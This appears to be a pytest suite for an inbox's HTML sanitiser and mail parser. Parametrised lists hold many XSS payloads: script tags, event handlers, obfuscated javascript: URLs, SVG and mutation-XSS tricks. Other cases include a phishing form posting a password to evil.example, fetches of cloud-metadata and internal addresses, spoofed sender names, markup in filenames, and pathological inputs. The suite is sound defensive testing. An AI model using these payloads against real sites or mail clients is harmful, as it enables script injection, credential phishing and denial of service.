"""Hostile email content (reliability.md 4.1 IN-01..IN-07, IN-10, IN-12, IN-22, IN-24, IN-29, IN-40).

What is stored must be inert: the sanitised `html` column holds nothing a browser could run or
fetch, checked by an oracle built on the standard library's own HTML parser (tests/inbound.py),
and header-derived strings are stored verbatim as text (escaping them is the web's job, tested
there). Pathological sizes must each finish within the two-second budget.
"""

from __future__ import annotations

import base64
import itertools
import quopri

import pytest

from inbox.sanitize import sanitize_html
from tests.budget import cpu_budget
from tests.inbound import assert_inert_html, attachment_rows, html_problems, ingest_raw
from tests.mailfactory import raw_mail

_ids = itertools.count(1)


def html_mail(html: str, *, charset: str = "utf-8", cte: str = "8bit", alternative: bool = False) -> bytes:
    encode = {"8bit": lambda b: b, "base64": base64.encodebytes, "quoted-printable": quopri.encodestring}[cte]
    body = encode(html.encode(charset))
    head = (f"From: Mallory <mallory@evil.example>\r\nTo: support@mainland.test\r\nSubject: Hello\r\n"
            f"Date: Thu, 05 Mar 2026 10:15:02 +0000\r\nMessage-ID: <h{next(_ids)}@evil.example>\r\nMIME-Version: 1.0\r\n")
    part = (f"Content-Type: text/html; charset={charset}\r\nContent-Transfer-Encoding: {cte}\r\n\r\n").encode() + body
    if not alternative:
        return head.encode() + part + b"\r\n"
    return (head + 'Content-Type: multipart/alternative; boundary="alt"\r\n\r\n--alt\r\n'
            "Content-Type: text/plain; charset=utf-8\r\n\r\nplain version\r\n--alt\r\n").encode() + part + b"\r\n--alt--\r\n"


# IN-01, IN-02: script in the HTML body --------------------------------------------------------------

XSS = [
    pytest.param("<p>Hi</p><img src=x onerror=alert(document.domain)>", id="IN-01-img-onerror"),
    pytest.param("<script>alert(1)</script>", id="IN-02-script"),
    pytest.param("<svg><script>alert(1)</script></svg>", id="IN-02-svg-script"),
    pytest.param("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", id="IN-02-svg-animate"),
    pytest.param("<svg><set attributeName=href to=javascript:alert(1) /><a><text>x</text></a></svg>",
                 id="IN-02-svg-set-href"),
    pytest.param('<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>', id="IN-02-svg-use-data"),
    pytest.param("<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
                 id="IN-02-svg-foreignobject"),
    pytest.param("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", id="IN-02-mxss-math-style"),
    pytest.param("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", id="IN-02-mxss-noscript"),
    pytest.param('<a href="jAvAsCrIpT:alert(1)">x</a>', id="IN-02-javascript-mixed-case"),
    pytest.param('<a href="java&#x09;script:alert(1)">x</a>', id="IN-02-javascript-tab-entity"),
    pytest.param('<a href="&#106;avascript:alert(1)">x</a>', id="IN-02-javascript-entity"),
    pytest.param('<a href=" \x01javascript:alert(1)">x</a>', id="IN-02-javascript-control-prefix"),
    pytest.param('<a href="vbscript:msgbox(1)">x</a>', id="IN-02-vbscript"),
    pytest.param('<a href="data:text/html,<script>alert(1)</script>">x</a>', id="IN-02-data-text-html"),
    pytest.param("<form><button formaction=javascript:alert(1)>x</button></form>", id="IN-02-formaction"),
    pytest.param('<form action="https://evil.example/steal"><input name=password></form>', id="IN-02-phishing-form"),
    pytest.param('<meta http-equiv=refresh content="0;url=https://evil.example">', id="IN-02-meta-refresh"),
    pytest.param('<base href="https://evil.example/"><a href="/x">x</a>', id="IN-02-base"),
    pytest.param('<iframe srcdoc="<script>alert(1)</script>">', id="IN-02-iframe-srcdoc"),
    pytest.param("<details open ontoggle=alert(1)>x</details>", id="IN-02-details-ontoggle"),
    pytest.param('<object data="javascript:alert(1)"></object><embed src="x.swf">', id="IN-02-object-embed"),
    pytest.param('<div style="background:url(javascript:alert(1))">x</div>', id="IN-02-style-javascript"),
    pytest.param("<body onload=alert(1)>x</body>", id="IN-02-body-onload"),
    pytest.param("<img src=x:x onerror=alert(1)//\n<b>bold</b>", id="IN-02-unclosed-tag"),
    pytest.param("<!--<img src=\"--><img src=x onerror=alert(1)//\">", id="IN-02-comment-breakout"),
    pytest.param("<![CDATA[<script>alert(1)</script>]]>", id="IN-02-cdata"),
    pytest.param("<template><script>alert(1)</script></template>", id="IN-02-template"),
    pytest.param('<a href="https://ok.example/" onmouseover="alert(1)">ok</a>', id="IN-02-onmouseover"),
    pytest.param("<isindex type=image src=1 onerror=alert(1)>", id="IN-02-isindex"),
    pytest.param('<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', id="IN-02-table-background"),
]


@pytest.mark.parametrize("payload", XSS)
def test_the_oracle_sees_the_raw_payload(payload):
    # Proves the oracle has teeth: unsanitised, each payload is something it would report.
    if "CDATA" not in payload:  # in HTML a CDATA section is a bogus comment: inert even unsanitised
        assert html_problems(payload)


@pytest.mark.parametrize("payload", XSS)
@pytest.mark.parametrize("cte", ["8bit", "base64", "quoted-printable"])
def test_stored_html_is_inert(ingestor, store, payload, cte):
    stored = ingest_raw(ingestor, html_mail(payload, cte=cte))
    message = stored.message
    assert_inert_html(message["html"])
    # The text made from the HTML (search, text channels) carries no markup either.
    assert_inert_html(message["text"])
    assert store.raw_message(message["id"]) is not None


def test_IN_01_harmless_content_survives(ingestor):
    stored = ingest_raw(ingestor, html_mail('<p>Hi <b>there</b>, see <a href="https://shop.example/o/1">order</a></p>'
                                            '<img src=x onerror=alert(1)>', alternative=True))
    html = stored.message["html"]
    assert "<b>there</b>" in html
    assert 'href="https://shop.example/o/1"' in html
    assert "onerror" not in html
    assert stored.message["text"].startswith("plain version")


# IN-04: nothing that fetches --------------------------------------------------------------------------

REMOTE = [
    pytest.param('<img src="https://tracker.example/p.gif">', id="IN-04-remote-img"),
    pytest.param('<div style="background:url(http://127.0.0.1:8080/)">x</div>', id="IN-04-style-url"),
    pytest.param('<link rel=stylesheet href="http://169.254.169.254/">', id="IN-04-link-stylesheet"),
    pytest.param("<style>@import url(http://10.0.0.1/)</style><p>x</p>", id="IN-04-style-import"),
    pytest.param('<img srcset="http://192.168.1.1/ 1x">', id="IN-04-srcset"),
    pytest.param('<svg><filter><feImage href="http://tracker/x"/></filter></svg>', id="IN-04-feimage"),
    pytest.param('<p style="--u:url(http://x);background:var(--u)">x</p>', id="IN-04-css-var-url"),
    pytest.param('<table background="http://x/t.gif"><tr><td background="http://x/d.gif">x</td></tr></table>',
                 id="IN-04-background-attribute"),
    pytest.param('<body background="http://x/b.png">x</body>', id="IN-04-body-background"),
    pytest.param('<video poster="http://x/p.png"></video><audio src="http://x/a.mp3"></audio>', id="IN-04-media"),
    pytest.param('<input type=image src="http://x/i.png">', id="IN-04-input-image"),
    pytest.param('<img src="//tracker.example/p.gif">', id="IN-04-protocol-relative"),
    pytest.param('<img src=" https://tracker.example/p.gif">', id="IN-04-leading-space"),
    pytest.param('<img dynsrc="http://x/v.avi" lowsrc="http://x/l.gif">', id="IN-04-dynsrc-lowsrc"),
    pytest.param('<a ping="http://tracker.example/ping" href="https://ok.example/">x</a>', id="IN-04-ping"),
]


@pytest.mark.parametrize("payload", REMOTE)
def test_stored_html_fetches_nothing(ingestor, payload):
    assert html_problems(payload)
    stored = ingest_raw(ingestor, html_mail(payload))
    assert_inert_html(stored.message["html"])


def test_IN_04_cid_inline_images_still_work(ingestor, store):
    png = base64.encodebytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 32).decode()
    raw = ("From: a@example.org\r\nSubject: logo\r\nMessage-ID: <cid1@example.org>\r\nMIME-Version: 1.0\r\n"
           'Content-Type: multipart/related; boundary="r"\r\n\r\n--r\r\nContent-Type: text/html\r\n\r\n'
           '<p>Logo: <img src="cid:logo@example.org" alt="logo"></p>\r\n--r\r\nContent-Type: image/png\r\n'
           "Content-ID: <logo@example.org>\r\nContent-Transfer-Encoding: base64\r\n\r\n" + png + "--r--\r\n").encode()
    stored = ingest_raw(ingestor, raw)
    assert 'src="cid:logo@example.org"' in stored.message["html"]
    [image] = attachment_rows(store, stored.message["id"])
    assert image["content_id"] == "logo@example.org" and image["inline"] == 1


# IN-12: UTF-7 decodes to markup, sanitised after decoding ------------------------------------------------


def test_IN_12_utf7_html_is_sanitised_after_decoding(ingestor):
    raw = html_mail("x").replace(b"charset=utf-8", b"charset=utf-7").replace(
        b"\r\n\r\nx", b"\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-+ADw-p+AD4-hi+ADw-/p+AD4-")
    stored = ingest_raw(ingestor, raw)
    assert_inert_html(stored.message["html"])
    assert "<p>hi</p>" in stored.message["html"]
    assert "alert" not in stored.message["html"]


# IN-05, IN-06, IN-07: header-derived strings are kept as text --------------------------------------------

SCRIPT = "<script>alert(1)</script>"


@pytest.mark.parametrize(
    "subject_header",
    [
        pytest.param("=?UTF-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=", id="IN-05-base64-encoded-word"),
        pytest.param("=?UTF-8?Q?=3Cscript=3Ealert=281=29=3C/script=3E?=", id="IN-05-q-encoded-word"),
        pytest.param(SCRIPT, id="IN-05-plain"),
    ],
)
def test_IN_05_subject_is_stored_verbatim_as_text(ingestor, store, subject_header):
    stored = ingest_raw(ingestor, raw_mail(subject=subject_header))
    assert stored.message["subject"] == SCRIPT
    assert store.conversation(stored.message["conversation_id"])["subject"] == SCRIPT
    assert stored.message["html"] is None


@pytest.mark.parametrize(
    "from_header, name, address",
    [
        pytest.param('"<img src=x onerror=alert(1)>" <a@example.org>', "<img src=x onerror=alert(1)>",
                     "a@example.org", id="IN-06-markup-display-name"),
        pytest.param("=?UTF-8?B?PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==?= <a@example.org>",
                     "<img src=x onerror=alert(1)>", "a@example.org", id="IN-06-encoded-markup-display-name"),
        pytest.param('"support@mainland.test" <attacker@evil.example>', "support@mainland.test",
                     "attacker@evil.example", id="IN-06-display-name-is-our-address"),
        pytest.param("=?utf-8?q?Bob_<support@mainland.test>?= <attacker@evil.example>", "Bob <support@mainland.test>",
                     "attacker@evil.example", id="IN-06-encoded-angle-address-in-name"),
    ],
)
def test_IN_06_display_name_is_text_and_the_real_address_is_kept_apart(ingestor, store, from_header, name, address):
    stored = ingest_raw(ingestor, raw_mail(sender=from_header))
    message = stored.message
    assert message["author_name"] == name
    assert message["author_handle"] == address
    assert "loop" not in message["flags"]  # a name that looks like our address is not our address
    identities = store.customer_identities(message["customer_id"])
    assert [(i["kind"], i["value"]) for i in identities] == [("email", address)]


@pytest.mark.parametrize(
    "disposition, expected",
    [
        pytest.param('attachment; filename="\\"><svg onload=alert(1)>.pdf"', '"><svg onload=alert(1)>.pdf',
                     id="IN-07-markup-filename"),
        pytest.param("attachment; filename*=UTF-8''%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E.png",
                     "<img src=x onerror=alert(1)>.png", id="IN-07-rfc2231-markup-filename"),
        pytest.param('attachment; filename="=?UTF-8?B?PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+LnBkZg==?="',
                     "<svg onload=alert(1)>.pdf", id="IN-07-encoded-word-filename"),
    ],
)
def test_IN_07_markup_in_filenames_is_kept_as_text(ingestor, store, disposition, expected):
    raw = ("From: a@example.org\r\nSubject: file\r\nMessage-ID: <f@example.org>\r\nMIME-Version: 1.0\r\n"
           'Content-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\nsee file\r\n'
           f"--m\r\nContent-Type: application/pdf\r\nContent-Disposition: {disposition}\r\n\r\n%PDF-1.4\r\n--m--\r\n")
    stored = ingest_raw(ingestor, raw.encode())
    [attachment] = attachment_rows(store, stored.message["id"])
    assert attachment["filename"] == expected
    assert "/" not in attachment["filename"]


# IN-03, IN-10, IN-29: active content in attachments is only ever an attachment ---------------------------


@pytest.mark.parametrize(
    "content_type, filename, payload",
    [
        pytest.param("text/html", "page.html", "<html><svg><style><//><body onload=alert(1)>", id="IN-03-html-attachment"),
        pytest.param("image/svg+xml", "logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
                     "<script>alert(2)</script></svg>", id="IN-10-svg-attachment"),
        pytest.param("image/svg+xml", "", '<svg onload="alert(1)"/>', id="IN-10-inline-svg-without-name"),
        pytest.param("text/calendar", "invite.ics",
                     "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Meeting\r\nDESCRIPTION:<svg onrepeat=alert(1)>"
                     "<details open ontoggle=alert(2)>\r\nEND:VEVENT\r\nEND:VCALENDAR", id="IN-29-calendar-invite"),
    ],
)
def test_active_attachments_are_never_body_html(ingestor, store, content_type, filename, payload):
    name = f'; name="{filename}"' if filename else ""
    disposition = f'Content-Disposition: attachment; filename="{filename}"\r\n' if filename else ""
    raw = ("From: a@example.org\r\nSubject: file\r\nMessage-ID: <act@example.org>\r\nMIME-Version: 1.0\r\n"
           'Content-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\nsee file\r\n'
           f"--m\r\nContent-Type: {content_type}{name}\r\n{disposition}\r\n{payload}\r\n--m--\r\n")
    stored = ingest_raw(ingestor, raw.encode())
    message = stored.message
    assert message["html"] is None
    assert "alert" not in message["text"]
    [attachment] = attachment_rows(store, message["id"])
    assert attachment["content_type"] == content_type
    assert ingestor.attachments.read(attachment["sha256"]).startswith(payload.encode()[:20])


def test_IN_29_calendar_alternative_part_is_not_html(ingestor, store):
    raw = (b"From: a@example.org\r\nSubject: invite\r\nMessage-ID: <cal@example.org>\r\nMIME-Version: 1.0\r\n"
           b'Content-Type: multipart/alternative; boundary="a"\r\n\r\n--a\r\nContent-Type: text/plain\r\n\r\n'
           b"You are invited\r\n--a\r\nContent-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\n"
           b"DESCRIPTION:<svg onrepeat=alert(1)>\r\nEND:VCALENDAR\r\n--a--\r\n")
    stored = ingest_raw(ingestor, raw)
    assert stored.message["html"] is None
    assert stored.message["text"].strip() == "You are invited"
    [calendar] = attachment_rows(store, stored.message["id"])
    assert calendar["content_type"] == "text/calendar"


# IN-24: thousands of links -------------------------------------------------------------------------------


def test_IN_24_six_thousand_links_replace_the_body(ingestor, store):
    html = "<p>Offers</p>" + "".join(f'<a href="https://spam.example/{i}">deal {i}</a> ' for i in range(6000))
    with cpu_budget(2, "ingesting it"):
        stored = ingest_raw(ingestor, html_mail(html))
    message = stored.message
    assert "html_replaced" in message["flags"]
    assert message["html"] is None
    assert "spam.example" not in message["text"]
    assert store.raw_message(message["id"]) is not None


@pytest.mark.parametrize(
    "html",
    [
        pytest.param("<div>" * 100_000 + "deep", id="IN-40-100k-nested-divs"),
        pytest.param("<blockquote>" * 30_000 + "quoted", id="IN-40-30000-nested-blockquotes"),
        pytest.param("<p>" + "plain words " * 400_000 + "</p>", id="IN-39-5mb-html-body"),
    ],
)
def test_html_too_costly_to_sanitise_is_replaced_in_time(ingestor, store, html):
    with cpu_budget(2, "ingesting it"):
        stored = ingest_raw(ingestor, html_mail(html))
    assert "html_replaced" in stored.flags
    assert stored.message["html"] is None
    assert store.raw_message(stored.message["id"]) is not None


def test_IN_24_link_count_also_counts_unquoted_and_uppercase_links():
    html = "".join(f"<A\nHREF=https://spam.example/{i}>x</A>" for i in range(6000))
    assert sanitize_html(html) == ("", True)


# IN-22, IN-40: pathological sizes, each within two seconds ------------------------------------------------


def _sizes() -> list:
    big_to = ", ".join(f"user{i} <user{i}@example.org>" for i in range(20_000))
    return [
        pytest.param(lambda: raw_mail(extra_headers="X-Long: " + "a" * 1_000_000), id="IN-22-1mb-header-line"),
        pytest.param(lambda: raw_mail(subject="=?utf-8?q?a?= " * 80_000), id="IN-22-80k-encoded-words"),
        pytest.param(lambda: raw_mail(extra_headers="\r\n".join(
            f"Received: from h{i}.example by mx.example; Thu, 05 Mar 2026 10:15:02 +0000" for i in range(10_000))),
            id="IN-22-10000-received-headers"),
        pytest.param(lambda: raw_mail(to=big_to), id="IN-22-to-20000-addresses"),
        pytest.param(lambda: raw_mail(extra_headers="Cc: " + big_to), id="IN-22-cc-20000-addresses"),
        pytest.param(lambda: raw_mail(references=" ".join(f"<r{i}@example.org>" for i in range(50_000))),
                     id="IN-22-50000-references"),
        pytest.param(lambda: raw_mail(content_type="text/plain; " + "; ".join(f"p{i}=v" for i in range(50_000))),
                     id="IN-22-50000-content-type-params"),
        pytest.param(lambda: raw_mail(content_type='multipart/mixed; boundary="' + "b" * 1_000_000 + '"',
                                      body="--" + "b" * 1_000_000 + "\r\n\r\nx\r\n"), id="IN-22-1mb-boundary"),
        pytest.param(lambda: raw_mail(body="".join(f"> quoted line {i} of an old thread\r\n" for i in range(60_000))),
                     id="IN-40-2mb-quoted-lines"),
        pytest.param(lambda: raw_mail(body="x" * 1_000_000), id="IN-40-1mb-line-without-spaces"),
        pytest.param(lambda: raw_mail(sender="a" * 100_000), id="IN-40-100k-name-without-address"),
        pytest.param(lambda: raw_mail(sender='"' + "a" * 100_000 + '" <x@example.org>'), id="IN-40-100k-display-name"),
        pytest.param(lambda: raw_mail(sender='"' * 50_000), id="IN-40-50000-quotes"),
        pytest.param(lambda: raw_mail(sender='"' * 50_000 + " <x@example.org>"), id="IN-40-50000-quotes-then-address"),
        pytest.param(lambda: raw_mail(sender="(" * 50_000 + "x@example.org"), id="IN-40-50000-open-comments"),
        pytest.param(lambda: raw_mail(sender="," * 50_000), id="IN-40-50000-commas"),
        pytest.param(lambda: raw_mail(sender="\\" * 50_000), id="IN-40-50000-backslashes"),
        pytest.param(lambda: raw_mail(sender="a@" * 50_000), id="IN-40-50000-at-signs"),
        pytest.param(lambda: html_mail("<div>" * 100_000 + "deep"), id="IN-40-100k-nested-divs"),
        pytest.param(lambda: html_mail("<p>" + "x" * 2_000_000 + "</p>"), id="IN-40-2mb-html-line"),
        pytest.param(lambda: html_mail("<b" * 200_000), id="IN-40-200k-unclosed-tags"),
        pytest.param(lambda: html_mail("<dl><dt>" * 20_000), id="IN-40-20000-nested-definition-lists"),
        pytest.param(lambda: html_mail("<div><b>" * 20_000), id="IN-40-20000-nested-div-b"),
        pytest.param(lambda: html_mail("<table><tr><td>" + "<p>row <b>x</b></p>" * 400_000 + "</td></tr></table>"),
                     id="IN-39-10mb-html-body"),
    ]


@pytest.mark.timeout(20)
@pytest.mark.parametrize("make", _sizes())
def test_pathological_sizes_finish_within_budget(ingestor, store, make):
    raw = make()
    with cpu_budget(2, "ingesting it"):
        stored = ingest_raw(ingestor, raw)
    assert stored.report.stored + stored.report.quarantined == 1
    if stored.message:
        assert store.raw_message(stored.message["id"]) == raw
        assert_inert_html(stored.message["html"])
        assert len(stored.message["author_handle"]) <= 320
        assert len(stored.message["author_name"]) <= 2000
        assert len(stored.message["subject"]) <= 2000
    else:
        assert store.quarantined()[0]["reason"].startswith("no sender")
